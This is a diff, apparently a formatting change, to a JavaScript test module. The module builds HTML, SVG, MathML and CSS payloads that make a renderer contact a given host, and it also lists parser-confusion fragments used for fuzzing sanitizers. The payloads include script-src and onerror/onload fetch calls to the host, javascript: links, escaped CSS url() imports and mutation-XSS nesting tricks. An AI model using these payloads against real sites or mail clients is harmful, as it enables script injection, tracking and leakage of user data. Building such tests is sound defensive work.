@@ -27,7 +27,8 @@ export const ATTACKS = {
   "a link in a drawing in an image": (at) =>
     `<img src="${svgImage(`<svg ${NS}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><link rel="preconnect" href="http://${at}/"/></body></foreignObject><image href="http://${at}/a.png"/></svg>`)}">`,
   "a link in a formula": (at) => `<math><annotation-xml encoding="text/html">${connect(at)}</annotation-xml></math>`,
-  "a link in a template": (at) => `<template>${connect(at)}</template><div><template shadowrootmode=open>${connect(at)}</template></div>`,
+  "a link in a template": (at) =>
+    `<template>${connect(at)}</template><div><template shadowrootmode=open>${connect(at)}</template></div>`,
   "a link where scripts are off": (at) => `<noscript>${connect(at)}</noscript>`,
   "a link behind a title's end": (at) => `<svg><title><style></title>${connect(at)}</style></title></svg>`,
   "a link in a style sheet of a drawing": (at) => `<svg><style><p title='</style>${connect(at)}'></style></svg>`,
@@ -54,18 +55,26 @@ export const ATTACKS = {
     `<style>@import "http://${at}/a.css"; @\\69mport url(http://${at}/b.css); @font-face{font-family:f;src:url(http://${at}/f.woff)} body{font-family:f;background:url(//${at}/a)} p{background-image:image-set("http://${at}/b" 1x);list-style:u\\52 l('//${at}/c');cursor:URL(//${at}/d),auto;--x:url(//${at}/e);mask:var(--x);content:src("//${at}/f")} @media all{p{background:-webkit-image-set(url(//${at}/g) 1x);border-image:cross-fade(url(//${at}/h), red)}}</style><p>x`,
   "a style's addresses": (at) =>
     `<p style="background:url(http://${at}/a)">x</p><p style="background:\\75\\72\\6c(//${at}/b)">x</p><p style="background:image-set('//${at}/c' 1x)">x</p><p style="background:url(#)url(//${at}/d)">x</p>`,
-  "scripts": (at) =>
+  scripts: (at) =>
     `<script src=http://${at}/a.js></script><script>fetch("http://${at}/")</script><img src=x onerror="fetch('http://${at}/')"><svg onload="fetch('http://${at}/')"><a href="javascript:fetch('http://${at}/')">x</a>`,
-  "speculation": (at) =>
+  speculation: (at) =>
     `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://${at}/"]}]}</script><link rel=expect href=#x><link rel=compression-dictionary href=http://${at}/d>`,
 };
 
 /** Parts that parsers disagree about, to be put together at random. */
 export const pieces = [
-  ..."<svg> </svg> <math> </math> <style> </style> <title> </title> <table> </table> <tr> <td> <p> </p> <b> </b> <a> </a> <desc>".split(" "),
-  ..."<mtext> <mglyph> <foreignObject> </foreignObject> <annotation-xml> <select> </select> <option> <textarea> </textarea>".split(" "),
-  ..."<template> </template> <noscript> </noscript> <iframe> </iframe> <form> </form> <xmp> </xmp> <!-- --> <![CDATA[ ]]>".split(" "),
-  ..."<li> <ul> </ul> <caption> <colgroup> <nobr> <br/> <path/> <use/> <image> </image> <plaintext> <frameset> <body> <head>".split(" "),
+  ..."<svg> </svg> <math> </math> <style> </style> <title> </title> <table> </table> <tr> <td> <p> </p> <b> </b> <a> </a> <desc>".split(
+    " ",
+  ),
+  ..."<mtext> <mglyph> <foreignObject> </foreignObject> <annotation-xml> <select> </select> <option> <textarea> </textarea>".split(
+    " ",
+  ),
+  ..."<template> </template> <noscript> </noscript> <iframe> </iframe> <form> </form> <xmp> </xmp> <!-- --> <![CDATA[ ]]>".split(
+    " ",
+  ),
+  ..."<li> <ul> </ul> <caption> <colgroup> <nobr> <br/> <path/> <use/> <image> </image> <plaintext> <frameset> <body> <head>".split(
+    " ",
+  ),
   '<p title="',
   '">',
   "<a title='",
